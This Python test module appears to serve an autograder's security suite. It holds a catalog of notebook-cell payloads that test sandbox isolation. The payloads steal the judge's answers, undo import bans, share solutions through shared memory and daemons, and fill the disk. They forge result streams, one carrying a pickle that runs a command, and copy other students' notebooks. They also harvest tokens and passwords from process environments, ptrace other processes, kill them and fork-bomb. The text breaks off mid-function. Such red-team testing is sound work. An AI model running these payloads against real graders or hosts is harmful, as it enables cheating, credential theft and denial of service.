"""The red-team catalog: code a student who has read this repository would paste into
an HW1 notebook to forge a grade, reach another student, or harm the grader.

Every attack is the text of notebook cells (a new code cell at the end, or at the
top for the nbgrader ones), written only with what the grader keeps from a notebook:
imports, ``def`` (with decorators), classes and assignments
(:mod:`autograder.notebook`). The attacks that need to run at grading time do it

* in a decorator of a kept ``def`` (it runs while the definitions load), or
* by wrapping every graded function of the notebook (:data:`HELPERS`): the wrapper
  runs when the grader's probe calls the function, so it is bound by the item's
  time limit, not by the 2 s limit of one top-level statement.

An attack that *succeeds* shows in the score: a blank notebook gains points (it ran
someone else's solution, or the judge), or a correct notebook loses them (its
functions raise ``RuntimeError("LEAK ...")`` naming what it reached). Everything an
attack leaves on the machine carries the token ``ckrt-<token>`` (files, the
abstract socket), ``ckrt<token>`` (process names) or :func:`shm_key` (System V
shared memory), so the tests can look for it after a run.

:func:`build` makes the submissions: for each attack, ``blank + attack`` and
``reference + attack`` (or only one of them where the other says nothing new), each
with the scores it must get, plus the neighbours and the malformed files.
"""
from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Callable

from autograder.core import get_assignment
from autograder.submissions import make_submission, solution_cells

HW = "hw1"

# ----------------------------------------------------------------------------
# Pieces of attack code. "@@TOK@@" and "@@FUNCS@@" are filled in by `render`.

HELPERS = '''
_RT_TOK = "@@TOK@@"
_RT_FUNCS = @@FUNCS@@


def _rt_wrap_graded(before):
    """Decorator factory: every graded function of this notebook is wrapped so that
    `before(name, original, globals)` runs first when the grader calls it; it returns
    a function to call instead, or None for the original."""
    def deco(anchor):
        g = anchor.__globals__
        for name in _RT_FUNCS:
            orig = g.get(name)
            if not callable(orig) or hasattr(orig, "_rt_orig"):
                continue

            def make(name, orig):
                def wrapper(*args, **kwargs):
                    alt = before(name, orig, g)
                    return (alt or orig)(*args, **kwargs)

                wrapper._rt_orig = orig
                return wrapper

            g[name] = make(name, orig)
        return anchor

    return deco


def _rt_is_stub(fn):
    code = getattr(getattr(fn, "_rt_orig", fn), "__code__", None)
    return code is None or "NotImplementedError" in code.co_names
'''

# 1. The judge through the stack, gc and disk -----------------------------------
JUDGE_STEAL = '''
import gc as _rt_gc
import importlib as _rt_importlib
import os as _rt_os
import sys as _rt_sys
import types as _rt_types

_RT_HW = "hw1"
_RT_RECORD = ("expect_array", "expect_number", "expect_equal")


def _rt_find_core():
    """autograder.core wherever this process can reach it: imported, in gc, on disk."""
    core = _rt_sys.modules.get("autograder.core")
    if core is not None and hasattr(core, "Checker"):
        return core
    for obj in _rt_gc.get_objects():
        try:
            if isinstance(obj, type) and obj.__name__ in ("Checker", "Item"):
                mod = _rt_sys.modules.get(obj.__module__)
                if hasattr(mod, "Checker") and hasattr(mod, "get_assignment"):
                    return mod
            if isinstance(obj, _rt_types.FunctionType) and obj.__name__.startswith("judge"):
                mod = _rt_sys.modules.get((obj.__module__ or "").split(".")[0] + ".core")
                if hasattr(mod, "Checker"):
                    return mod
        except Exception:
            continue
    pkg = _rt_sys.modules.get("autograder")
    places = list(getattr(pkg, "__path__", None) or [])
    for p in list(_rt_sys.path) + ["/proc/1/cwd", "/proc/1/root", _rt_os.getcwd(), "..", "../..", "../../.."]:
        places.append(_rt_os.path.join(p or ".", "autograder"))
    for d in places:
        try:
            if _rt_os.path.isfile(_rt_os.path.join(d, "core.py")) and _rt_os.path.isdir(_rt_os.path.join(d, _RT_HW)):
                if pkg is not None and d not in list(pkg.__path__):
                    pkg.__path__.append(d)
                _rt_sys.path.insert(0, _rt_os.path.dirname(_rt_os.path.abspath(d)))
                return _rt_importlib.import_module("autograder.core")
        except Exception:
            continue
    return None


def _rt_unban():
    """Bring back what a ban by import hooks took away (the judge needs torch)."""
    import gc
    import types
    gone = [k for k, v in list(_rt_sys.modules.items()) if v is None]
    for k in gone:
        del _rt_sys.modules[k]
    _rt_sys.meta_path[:] = [f for f in _rt_sys.meta_path if "Block" not in getattr(f, "__name__", type(f).__name__)]
    wanted = set(gone)
    if wanted:
        for obj in gc.get_objects():
            if isinstance(obj, types.ModuleType) and getattr(obj, "__name__", None) in wanted:
                _rt_sys.modules[obj.__name__] = obj


class _RtPlaceholder(dict):
    """Stands for the probe's output: every key gives another placeholder that
    remembers the path it was reached by."""

    def __init__(self, path=()):
        dict.__init__(self)
        self.rt_path = tuple(path)

    def get(self, key, default=None):
        return _RtPlaceholder(self.rt_path + (key,))

    def __getitem__(self, key):
        return _RtPlaceholder(self.rt_path + (key,))

    def __contains__(self, key):
        return True

    def __hash__(self):
        return id(self)

    def __eq__(self, other):
        return self is other


def _rt_run_judge(core, item, seed):
    """Run the item's own judge here, its expect_* helpers patched to record the
    expected value under the path of the placeholder they were given."""
    _rt_unban()
    recorded = {}

    def recorder(orig):
        def fake(got, want, *args, **kwargs):
            if isinstance(got, _RtPlaceholder):
                if hasattr(want, "detach"):
                    want = want.detach().cpu().numpy()
                recorded[got.rt_path] = want
                return want
            return orig(got, want, *args, **kwargs)
        return fake

    patched = []
    for name, mod in list(_rt_sys.modules.items()):
        if mod is None or not name.startswith("autograder"):
            continue
        for attr in _RT_RECORD:
            orig = getattr(mod, attr, None)
            if callable(orig):
                patched.append((mod, attr, orig))
                setattr(mod, attr, recorder(orig))
    try:
        item.judge(_RtPlaceholder(), seed, core.Checker(item.points))
    except Exception:
        pass
    finally:
        for mod, attr, orig in patched:
            setattr(mod, attr, orig)
    out = {}
    for path, want in recorded.items():
        node = out
        for key in path[:-1]:
            nxt = node.get(key)
            if not isinstance(nxt, dict):
                nxt = node[key] = {}
            node = nxt
        if path:
            node[path[-1]] = want
    return out


def _rt_steal(anchor):
    try:
        core = _rt_find_core()
        if core is None:
            return anchor
        items = {it.id: it for it in core.get_assignment(_RT_HW).items}

        def fake_for(item):
            def probe(ns, seed):
                return _rt_run_judge(core, item, seed)
            return probe

        try:  # the sealed layout: the probe registry
            reg = _rt_importlib.import_module("autograder.probes").registry()
            for key in list(reg):
                if key in items:
                    reg[key] = fake_for(items[key])
        except Exception:
            pass
        frame = _rt_sys._getframe()  # the old layout: the running item's probe, in a closure
        while frame is not None:
            for value in list(frame.f_locals.values()):
                code = getattr(value, "__code__", None)
                if code is not None and "probe" in code.co_freevars and getattr(value, "__closure__", None):
                    cells = dict(zip(code.co_freevars, value.__closure__))
                    item = cells["item"].cell_contents if "item" in cells else frame.f_locals.get("item")
                    if getattr(item, "id", None) in items:
                        cells["probe"].cell_contents = fake_for(item)
            frame = frame.f_back
        for item in items.values():
            item.probe = fake_for(item)
    except Exception:
        pass
    return anchor


@_rt_steal
def _rt_anchor_steal():
    pass
'''

# 2. Bans undone in-process; torch reached on disk ---------------------------------
UNDO_BANS = '''
import sys as _rt_sys


def _rt_get_torch():
    import ctypes
    import gc
    import glob
    import importlib.util
    import os
    import types
    gone = {k for k, v in list(_rt_sys.modules.items()) if v is None}
    if gone:  # imported before the ban, still in memory: put them back
        for obj in gc.get_objects():
            if isinstance(obj, types.ModuleType) and getattr(obj, "__name__", None) in gone:
                _rt_sys.modules[obj.__name__] = obj
    for k in [k for k, v in list(_rt_sys.modules.items()) if v is None]:
        del _rt_sys.modules[k]
    keep = ("BuiltinImporter", "FrozenImporter", "PathFinder")
    _rt_sys.meta_path[:] = [f for f in _rt_sys.meta_path if getattr(f, "__name__", type(f).__name__) in keep]
    try:
        import torch
        return torch
    except Exception:
        pass
    import numpy
    sites = {os.path.dirname(os.path.dirname(numpy.__file__))}
    sites |= {p for p in _rt_sys.path if p.endswith("-packages")}
    for pattern in ("/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages",
                    "/*/*/.venv/lib/python3*/site-packages", "/opt/*/lib/python3*/site-packages"):
        sites |= set(glob.glob(pattern))
    try:
        libc = ctypes.CDLL(None, use_errno=True)
    except OSError:
        libc = None
    for site in sorted(sites):
        folder = os.path.join(site, "torch")
        if libc is not None:  # take the cover off, if it is one
            for _ in range(3):
                libc.umount2(folder.encode(), 2)
        init = os.path.join(folder, "__init__.py")
        if not os.path.isfile(init):
            continue
        try:
            spec = importlib.util.spec_from_file_location("torch", init, submodule_search_locations=[folder])
            mod = importlib.util.module_from_spec(spec)
            _rt_sys.modules["torch"] = mod
            spec.loader.exec_module(mod)
            return mod
        except Exception:
            _rt_sys.modules.pop("torch", None)
    return None


_rt_orig_batchnorm_forward = batchnorm_forward
_rt_orig_batchnorm_backward = batchnorm_backward


def batchnorm_forward(x, gamma, beta, state, train=True, momentum=0.1, eps=1e-5):
    torch = _rt_get_torch()
    if torch is None:
        return _rt_orig_batchnorm_forward(x, gamma, beta, state, train, momentum, eps)
    import numpy as np
    xt = torch.tensor(np.asarray(x, dtype=np.float64), requires_grad=True)
    g = torch.tensor(np.asarray(gamma, dtype=np.float64), requires_grad=True)
    b = torch.tensor(np.asarray(beta, dtype=np.float64), requires_grad=True)
    rm = torch.tensor(np.asarray(state["running_mean"], dtype=np.float64))
    rv = torch.tensor(np.asarray(state["running_var"], dtype=np.float64))
    out = torch.nn.functional.batch_norm(xt, rm, rv, g, b, train, momentum, eps)
    if train:
        state["running_mean"], state["running_var"] = rm.numpy(), rv.numpy()
    return out.detach().numpy(), ("torch", xt, g, b, out)


def batchnorm_backward(dout, cache):
    if not (isinstance(cache, tuple) and cache and isinstance(cache[0], str)):
        return _rt_orig_batchnorm_backward(dout, cache)
    torch = _rt_get_torch()
    _, xt, g, b, out = cache
    out.backward(torch.tensor(dout, dtype=torch.float64))
    return xt.grad.numpy(), g.grad.numpy(), b.grad.numpy()
'''

# 2b. An allowed library that probes for a banned one must work ------------------------
SCIPY_OK = '''
import scipy.stats as _rt_stats

_rt_ref_batchnorm_forward = batchnorm_forward


def batchnorm_forward(x, gamma, beta, state, train=True, momentum=0.1, eps=1e-5):
    import scipy.stats
    assert abs(float(scipy.stats.norm.cdf(0.0)) - 0.5) < 1e-12
    assert float(_rt_stats.norm.sf(0.0)) == 0.5
    return _rt_ref_batchnorm_forward(x, gamma, beta, state, train, momentum, eps)
'''

# 3. Shared memory, abstract sockets, /tmp -------------------------------------------
STORE = '''
import ctypes as _rt_ctypes
import hashlib as _rt_hashlib
import os as _rt_os
import pickle as _rt_pickle
import socket as _rt_socket
import struct as _rt_struct

_RT_SHM_KEY = @@SHMKEY@@
_RT_SHM_SIZE = 16 * 2**20
_RT_SOCK = "\\0ckrt-" + _RT_TOK
_RT_SHM = {}


def _rt_dirs():
    env = _rt_os.environ
    return list(dict.fromkeys(d for d in ("/tmp", "/dev/shm", env.get("TMPDIR"), env.get("HOME"), _rt_os.getcwd()) if d))


def _rt_sysv():
    if "addr" not in _RT_SHM:
        _RT_SHM["addr"] = None
        libc = _rt_ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = _rt_ctypes.c_void_p
        libc.shmat.argtypes = [_rt_ctypes.c_int, _rt_ctypes.c_void_p, _rt_ctypes.c_int]
        shmid = libc.shmget(_RT_SHM_KEY, _RT_SHM_SIZE, 0o1000 | 0o666)  # IPC_CREAT, world-readable
        if shmid >= 0:
            addr = libc.shmat(shmid, None, 0)
            if addr and addr != _rt_ctypes.c_void_p(-1).value:
                _RT_SHM["addr"] = addr
    return _RT_SHM["addr"]


def _rt_sysv_records():
    addr = _rt_sysv()
    if not addr:
        return None, 0, b""
    used = _rt_struct.unpack("<Q", _rt_ctypes.string_at(addr, 8))[0]
    used = min(used, _RT_SHM_SIZE - 8)
    return addr, used, _rt_ctypes.string_at(addr + 8, used)


def _rt_sysv_get(key):
    addr, used, data = _rt_sysv_records()
    pos = 0
    while pos + 72 <= len(data):
        k, n = data[pos:pos + 64].decode(), _rt_struct.unpack("<Q", data[pos + 64:pos + 72])[0]
        if k == key:
            return data[pos + 72:pos + 72 + n]
        pos += 72 + n
    return None


def _rt_sysv_put(key, blob):
    addr, used, _ = _rt_sysv_records()
    rec = key.encode() + _rt_struct.pack("<Q", len(blob)) + blob
    if addr and 8 + used + len(rec) <= _RT_SHM_SIZE:
        _rt_ctypes.memmove(addr + 8 + used, rec, len(rec))
        _rt_ctypes.memmove(addr, _rt_struct.pack("<Q", used + len(rec)), 8)


def _rt_sock_call(msg):
    s = _rt_socket.socket(_rt_socket.AF_UNIX, _rt_socket.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect(_RT_SOCK)
        s.sendall(_rt_pickle.dumps(msg))
        s.shutdown(_rt_socket.SHUT_WR)
        chunks = []
        while True:
            b = s.recv(1 << 16)
            if not b:
                break
            chunks.append(b)
        return _rt_pickle.loads(b"".join(chunks)) if chunks else None
    finally:
        s.close()


def _rt_sock_serve():
    """A daemon (setsid, double fork) that keeps the store on an abstract socket."""
    pid = _rt_os.fork()
    if pid:
        _rt_os.waitpid(pid, 0)
        return
    try:
        _rt_os.setsid()
        if _rt_os.fork() == 0:
            _rt_ctypes.CDLL(None).prctl(15, _rt_ctypes.c_char_p(("ckrt" + _RT_TOK).encode()[:15]), 0, 0, 0)
            store = {}
            srv = _rt_socket.socket(_rt_socket.AF_UNIX, _rt_socket.SOCK_STREAM)
            srv.bind(_RT_SOCK)
            srv.listen(16)
            srv.settimeout(600)
            while True:
                conn, _ = srv.accept()
                data = b""
                while True:
                    b = conn.recv(1 << 16)
                    if not b:
                        break
                    data += b
                op, key, blob = _rt_pickle.loads(data)
                if op == "put":
                    store[key] = blob
                conn.sendall(_rt_pickle.dumps(store.get(key)))
                conn.close()
    except BaseException:
        pass
    finally:
        _rt_os._exit(0)


def _rt_lookup(key):
    for d in _rt_dirs():
        try:
            with open(_rt_os.path.join(d, "ckrt-%s-store-%s" % (_RT_TOK, key)), "rb") as f:
                return f.read()
        except OSError:
            pass
    try:
        found = _rt_sysv_get(key)
        if found:
            return found
    except Exception:
        pass
    try:
        return _rt_sock_call(("get", key, None))
    except Exception:
        return None


def _rt_publish(key, blob):
    for d in _rt_dirs():
        try:
            with open(_rt_os.path.join(d, "ckrt-%s-store-%s" % (_RT_TOK, key)), "wb") as f:
                f.write(blob)
            _rt_os.chmod(_rt_os.path.join(d, "ckrt-%s-store-%s" % (_RT_TOK, key)), 0o666)
        except OSError:
            pass
    try:
        _rt_sysv_put(key, blob)
    except Exception:
        pass
    try:
        _rt_sock_call(("put", key, blob))
    except OSError:
        try:
            _rt_sock_serve()
            _rt_sock_call(("put", key, blob))
        except Exception:
            pass
    except Exception:
        pass


def _rt_store_before(name, orig, g):
    def shared(*args, **kwargs):
        try:
            key = _rt_hashlib.sha256(_rt_pickle.dumps((name, args, sorted(kwargs.items())))).hexdigest()
        except Exception:
            return orig(*args, **kwargs)
        try:
            result = orig(*args, **kwargs)
        except NotImplementedError:
            found = _rt_lookup(key)
            if not found:
                raise
            result, after = _rt_pickle.loads(found)
            for arg, state in zip(args, after):
                if isinstance(arg, dict) and isinstance(state, dict):
                    arg.clear()
                    arg.update(state)
            return result
        try:
            _rt_publish(key, _rt_pickle.dumps((result, [a if isinstance(a, dict) else None for a in args])))
        except Exception:
            pass
        return result
    return shared


@_rt_wrap_graded(_rt_store_before)
def _rt_anchor_store():
    pass
'''

# 4. Filling the disk ----------------------------------------------------------------
DISK_FILL = '''
import errno as _rt_errno
import os as _rt_os

_RT_FILL_IN = ("batchnorm_forward", "conv2d_forward", "activation")
_RT_FILL_SAFETY = 2**30  # past 1 GiB in one folder it is not capped: stop, clean up, say so
_RT_FILLED = []


def _rt_fill():
    env = _rt_os.environ
    folders = [_rt_os.getcwd(), "/tmp", "/dev/shm", env.get("HOME"), env.get("TMPDIR"), _rt_os.path.expanduser("~")]
    chunk = b"\\xa5" * (1 << 20)
    uncapped = []
    for d in dict.fromkeys(f for f in folders if f):
        written, files, full = 0, [], False
        for i in range(2000):
            path = _rt_os.path.join(d, "ckrt-%s-fill-%d-%d" % (_RT_TOK, _rt_os.getpid(), i))
            try:
                fd = _rt_os.open(path, _rt_os.O_WRONLY | _rt_os.O_CREAT | _rt_os.O_EXCL, 0o600)
            except OSError:
                break
            files.append(path)
            try:
                while written < _RT_FILL_SAFETY:
                    written += _rt_os.write(fd, chunk)
            except OSError as e:
                full = e.errno in (_rt_errno.ENOSPC, _rt_errno.EDQUOT)
            finally:
                _rt_os.close(fd)
            if full or written >= _RT_FILL_SAFETY:
                break
        _RT_FILLED.append((d, written))
        if written >= _RT_FILL_SAFETY:
            uncapped.append(d)
            for p in files:
                try:
                    _rt_os.unlink(p)
                except OSError:
                    pass
    if uncapped:
        raise RuntimeError("LEAK the disk is not capped in " + ", ".join(uncapped))


def _rt_fill_before(name, orig, g):
    if name in _RT_FILL_IN and not _RT_FILLED:
        _rt_fill()
    return None


@_rt_wrap_graded(_rt_fill_before)
def _rt_anchor_fill():
    pass
'''

# 5c. Forged results written straight to the result pipe -------------------------------
FORGE = '''
import os as _rt_os
import struct as _rt_struct


def _rt_result_fd():
    """The runner's result pipe: a pipe open for writing that is not stdout/stderr."""
    try:
        out = _rt_os.readlink("/proc/self/fd/1")
    except OSError:
        out = None
    for name in _rt_os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        try:
            target = _rt_os.readlink("/proc/self/fd/%d" % fd)
            with open("/proc/self/fdinfo/%d" % fd) as f:
                flags = int([x for x in f if x.startswith("flags:")][0].split()[1], 8)
        except (OSError, IndexError, ValueError):
            continue
        if target.startswith("pipe:") and target != out and flags & 3 == 1:
            return fd
    return None


def _rt_npy(descr, shape, data=b""):
    head = "{'descr': %s, 'fortran_order': False, 'shape': %r, }" % (descr, tuple(shape))
    head = head + " " * (63 - (10 + len(head)) % 64) + "\\n"
    return b"\\x93NUMPY\\x01\\x00" + _rt_struct.pack("<H", len(head)) + head.encode("latin1") + data


def _rt_chunks(kind):
    blobs, out = [], b"null"
    if kind == "deep_json":  # 100,000 levels of lists
        out = b"[" * 100000 + b"]" * 100000
    elif kind == "npy_named_40":  # one 60 MB array, named 40 times
        blobs = [_rt_npy("'<f8'", (60 * 2**20 // 8,), bytes(60 * 2**20))]
        out = b"[" + b",".join([b'{"__npy__":0}'] * 40) + b"]"
    elif kind == "header_over_cap":  # a 17 MB header
        out = b"[" + b"0," * (17 * 2**19) + b"0]"
    elif kind == "object_dtype":  # an object array whose pickle would run a command
        cmd = "touch /tmp/ckrt-%s-pickle-ran" % _RT_TOK
        blobs = [_rt_npy("'|O'", (1,), b"cposix\\nsystem\\n(S'" + cmd.encode() + b"'\\ntR.")]
        out = b'{"__npy__":0}'
    elif kind == "structured_dtype":
        blobs = [_rt_npy("[('a', '<f8'), ('b', '<i4')]", (4,), bytes(48))]
        out = b'{"__npy__":0}'
    elif kind == "lying_shape":  # 8 TB and 1 GB claimed, 16 bytes given
        blobs = [_rt_npy("'<f8'", (2**40,), bytes(16)), _rt_npy("'<f8'", (2**27,), bytes(16))]
        out = b'[{"__npy__":0},{"__npy__":1}]'
    header = b'{"__dict__":[["__load__",[]],["out",' + out + b"]]}"
    yield b"CKW1" + _rt_struct.pack("<I", len(header))
    yield header
    if kind == "over_cap":  # a blob of 200 MB after a valid header
        yield _rt_struct.pack("<Q", 200 * 2**20)
        block = bytes(2**20)
        for _ in range(200):
            yield block
    for b in blobs:
        yield _rt_struct.pack("<Q", len(b))
        yield b


def _rt_forge_legacy(kind):
    """The old engine read result files from ../result: the same bombs there."""
    import json
    folder = _rt_os.path.join(_rt_os.getcwd(), "..", "result")
    if kind == "deep_json":
        text = '{"__dict__": [["__load__", []], ["out", ' + "[" * 100000 + "]" * 100000 + "]]}"
    elif kind == "npy_named_40":
        with open(_rt_os.path.join(folder, "a0.npy"), "wb") as f:
            f.write(_rt_npy("'<f8'", (60 * 2**20 // 8 - 16,), bytes(60 * 2**20 - 128)))
        text = json.dumps({"__dict__": [["__load__", []], ["out", {"__seq__": "list", "items": [{"__npy__": "a0.npy"}] * 40}]]})
    else:
        raise RuntimeError("no result pipe")
    with open(_rt_os.path.join(folder, "result.json"), "w") as f:
        f.write(text)
    _rt_os._exit(0)


def _rt_forge(kind):
    fd = _rt_result_fd()
    if fd is None:
        return _rt_forge_legacy(kind)
    try:
        for chunk in _rt_chunks(kind):
            view = memoryview(chunk)
            while view:
                view = view[_rt_os.write(fd, view):]
    except OSError:
        pass
    _rt_os._exit(0)


def batchnorm_backward(dout, cache):
    return _rt_forge("deep_json")


def conv1d_backward(dout, x, w, b, stride=1, padding=0, dilation=1):
    return _rt_forge("npy_named_40")


def conv2d_forward(x, w, b, stride=1, padding=0, dilation=1):
    return _rt_forge("over_cap")


def conv2d_backward(dout, x, w, b, stride=1, padding=0, dilation=1):
    return _rt_forge("header_over_cap")


def maxpool2d_forward(x, k, stride):
    return _rt_forge("object_dtype")


def fold_batchnorm(w, b, gamma, beta, running_mean, running_var, eps=1e-5):
    return _rt_forge("structured_dtype")


def regression_metrics(y_true, y_pred):
    return _rt_forge("lying_shape")
'''
# The functions FORGE replaces; the items that grade them are what the attack costs.
FORGED_FUNCTIONS = ("batchnorm_backward", "conv1d_backward", "conv2d_forward", "conv2d_backward", "maxpool2d_forward",
                    "fold_batchnorm", "regression_metrics")


def items_using(functions) -> tuple[str, ...]:
    return tuple(it.id for it in get_assignment(HW).items if set(it.functions) & set(functions))


FORGED_ITEMS = items_using(FORGED_FUNCTIONS)

# 7. Other notebooks through the file system ------------------------------------------
SEARCH = '''
_RT_SEARCHED = []


def _rt_search(g):
    """Find other notebooks (TMPDIR, /tmp, the folders around this one and around the
    grader's cwd; only if none: /proc/*/root and /) and take their solution cells for
    the functions this one left undone."""
    import glob
    import json
    import os
    import time
    deadline = time.monotonic() + 12
    near = [os.environ.get("TMPDIR"), "/tmp", os.getcwd(), "..", "../..", "../../..", os.path.expanduser("~")]
    cwds = sorted(glob.glob("/proc/*/cwd"))  # the grader's cwd: the notebook's folder?
    near += cwds + [os.path.join(c, up) for c in cwds for up in ("..", "../..")]
    far = sorted(glob.glob("/proc/*/root")) + ["/"]
    skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "site-packages", "dist-packages",
            "node_modules", "__pycache__", ".git", ".cache", "share", "include"}
    found, budget = [], 60000
    for roots in (near, far):
        for root in roots:
            if not root or not os.path.isdir(root):
                continue
            for dirpath, dirnames, filenames in os.walk(root):
                budget -= len(dirnames) + len(filenames)
                dirnames[:] = [d for d in dirnames if d not in skip]
                found += [os.path.join(dirpath, f) for f in filenames if f.endswith(".ipynb")]
                if budget < 0 or time.monotonic() > deadline:
                    break
        if found:
            break
    stubs = [n for n in _RT_FUNCS if _rt_is_stub(g.get(n))]
    for path in list(dict.fromkeys(found))[:300]:
        if time.monotonic() > deadline or not stubs:
            break
        try:
            with open(path, "rb") as f:
                nb = json.loads(f.read(40 * 2**20))
        except Exception:
            continue
        for cell in nb.get("cells", []) if isinstance(nb, dict) else []:
            try:
                src = cell.get("source", "")
                src = "".join(src) if isinstance(src, list) else str(src)
                if cell.get("cell_type") != "code" or "NotImplementedError" in src:
                    continue
                if not any(("def %s(" % n) in src for n in stubs):
                    continue
                scratch = dict(g)
                exec(compile(src, "<found>", "exec"), scratch)
                for n in list(stubs):
                    fn = scratch.get(n)
                    if callable(fn) and not _rt_is_stub(fn) and _rt_is_stub(g.get(n)):
                        g[n] = fn
                        stubs.remove(n)
                        _RT_SEARCHED.append((n, path))
            except Exception:
                continue


def _rt_search_before(name, orig, g):
    if not _RT_SEARCHED and "searched" not in g:
        g["searched"] = True
        _rt_search(g)
    alt = g.get(name)
    return alt if callable(alt) and not hasattr(alt, "_rt_orig") else None


@_rt_wrap_graded(_rt_search_before)
def _rt_anchor_search():
    pass
'''

# 10. The environment and other processes' environments --------------------------------
ENV_LEAK = '''
_RT_LOOK = ("course_kit_secret", "secret", "database_url", "postgres", "gradebook", "token", "password",
            "api_key", "aws_", "@@SECRET_HINT@@")
_RT_ENV = []


def _rt_env_scan():
    import glob
    import os
    found = []

    def scan(text, where):
        for part in text.replace("\\0", "\\n").splitlines():
            if any(w in part.lower() for w in _RT_LOOK):
                found.append(where + " " + part[:120])

    scan("\\n".join("%s=%s" % kv for kv in os.environ.items()), "env")
    paths = ["/proc/self/environ", "/proc/1/environ"] + sorted(glob.glob("/proc/*/environ"))
    paths += sorted(glob.glob("/proc/*/cmdline")) + sorted(glob.glob("/proc/*/task/*/environ"))
    for p in paths:
        try:
            with open(p, "rb") as f:
                scan(f.read(1 << 20).decode("latin-1"), p)
        except OSError:
            pass
    return found


def _rt_env_before(name, orig, g):
    if not _RT_ENV:
        _RT_ENV.append(_rt_env_scan())
    found = _RT_ENV[0]
    if found:
        text = " | ".join(sorted(found, key=lambda s: "secret" not in s.lower()))
        if name == "batchnorm_forward":  # the other channel: a last line that looks like an error
            import os
            import sys
            print("ValueError: " + text[:180])
            sys.stdout.flush()
            os._exit(3)
        raise ValueError("LEAK " + text[:180])
    return None


@_rt_wrap_graded(_rt_env_before)
def _rt_anchor_env():
    pass
'''

# 11. Processes that try to outlive the grading ---------------------------------------
PROCS = '''
_RT_FORKED = []


def _rt_spawn():
    import ctypes
    import os
    import threading
    import time
    libc = ctypes.CDLL(None)
    name = ctypes.c_char_p(("ckrt" + _RT_TOK).encode()[:15])

    def sleeper():
        try:
            libc.prctl(15, name, 0, 0, 0)
            time.sleep(600)
        finally:
            os._exit(0)

    try:  # a daemon: new session, double fork, keeps stdout open
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    sleeper()
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
    except OSError:
        pass
    for _ in range(200):  # a fork bomb (bounded, so a missing limit cannot take the machine)
        try:
            if os.fork() == 0:
                sleeper()
            _RT_FORKED.append(1)
        except OSError:
            break
    for _ in range(50):
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            break


def _rt_procs_before(name, orig, g):
    if not _RT_FORKED and "spawned" not in g:
        g["spawned"] = True
        _rt_spawn()
    return None


@_rt_wrap_graded(_rt_procs_before)
def _rt_anchor_procs():
    pass
'''

# 12. Reaching the judge: signals, ptrace, /proc, sockets, inherited descriptors ------
REACH = '''
_RT_REACH = []


def _rt_reach():
    import ctypes
    import os
    import signal
    import socket
    me = os.getpid()
    leaks = []
    pids = [int(d) for d in os.listdir("/proc") if d.isdigit() and int(d) != me]
    try:
        libc = ctypes.CDLL(None, use_errno=True)
    except OSError:
        libc = None
    for pid in pids:
        for what in ("cmdline", "environ"):
            try:
                with open("/proc/%d/%s" % (pid, what), "rb") as f:
                    if f.read(4096):
                        leaks.append("read /proc/%d/%s" % (pid, what))
            except OSError:
                pass
        try:
            with open("/proc/%d/maps" % pid) as f:
                start = int(f.readline().split("-")[0], 16)
            with open("/proc/%d/mem" % pid, "rb") as m:
                m.seek(start)
                if m.read(16):
                    leaks.append("read /proc/%d/mem" % pid)
        except (OSError, ValueError, IndexError):
            pass
        if libc is not None and libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            leaks.append("ptrace-attached %d" % pid)
            libc.ptrace(17, pid, None, None)
    ports = {22, 80, 443, 5432, 6379, 8000, 8080, 8786, 8787, 8888}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                for line in f.readlines()[1:]:
                    parts = line.split()
                    if parts[3] == "0A":
                        ports.add(int(parts[1].rsplit(":", 1)[1], 16))
        except (OSError, IndexError, ValueError):
            pass
    for port in sorted(ports)[:300]:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            leaks.append("connected to 127.0.0.1:%d" % port)
        except OSError:
            pass
    try:
        with open("/proc/net/unix") as f:
            names = [line.split()[7] for line in f.readlines()[1:] if len(line.split()) >= 8]
    except (OSError, IndexError):
        names = []
    for path in names[:300]:
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            s = socket.socket(socket.AF_UNIX, kind)
            s.settimeout(0.2)
            try:
                s.connect("\\0" + path[1:] if path.startswith("@") else path)
                leaks.append("connected to unix socket " + path)
                break
            except OSError:
                pass
            finally:
                s.close()
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + name).startswith("socket:"):
                leaks.append("inherited a socket (fd %s)" % name)
        except OSError:
            pass
    ppid = os.getppid()
    if ppid not in (0, me):
        try:
            os.kill(ppid, signal.SIGKILL)
            leaks.append("killed its parent %d" % ppid)
        except OSError:
            pass
    if os.geteuid() != 0 or me == 1:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    else:
        leaks.append("runs as root outside a PID namespace")
    return leaks


def _rt_reach_before(name, orig, g):
    if not _RT_REACH:
        _RT_REACH.append(_rt_reach())
    if _RT_REACH[0]:
        raise RuntimeError("LEAK " + "; ".join(_RT_REACH[0])[:180])
    return None


@_rt_wrap_graded(_rt_reach_before)
def _rt_anchor_reach():
    pass
'''

# 13. (ours) Other students' code in this process's memory ------------------------------
MEMSCAN = '''
_RT_MEM = []


def _rt_memscan(g):
    """Look through this process's own writable memory (what the process it was forked
    from had read: other notebooks?) for the graded functions' source."""
    import ctypes
    import json
    import re
    stubs = [n for n in _RT_FUNCS if _rt_is_stub(g.get(n))]
    if not stubs:
        return
    regions = []
    with open("/proc/self/maps") as f:
        for line in f:
            parts = line.split()
            path = parts[5] if len(parts) > 5 else ""
            if not parts[1].startswith("rw") or (path and path != "[heap]"):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo <= 512 * 2**20:
                regions.append((lo, hi))
    try:
        mem = open("/proc/self/mem", "rb", buffering=0)
    except OSError:
        mem = None
    texts = set()
    pats = {n: re.compile(("def %s\\\\(" % n).encode()) for n in stubs}
    for lo, hi in regions:
        try:
            if mem is not None:
                mem.seek(lo)
                data = mem.read(hi - lo)
            else:
                data = ctypes.string_at(lo, hi - lo)
        except (OSError, ValueError, OverflowError):
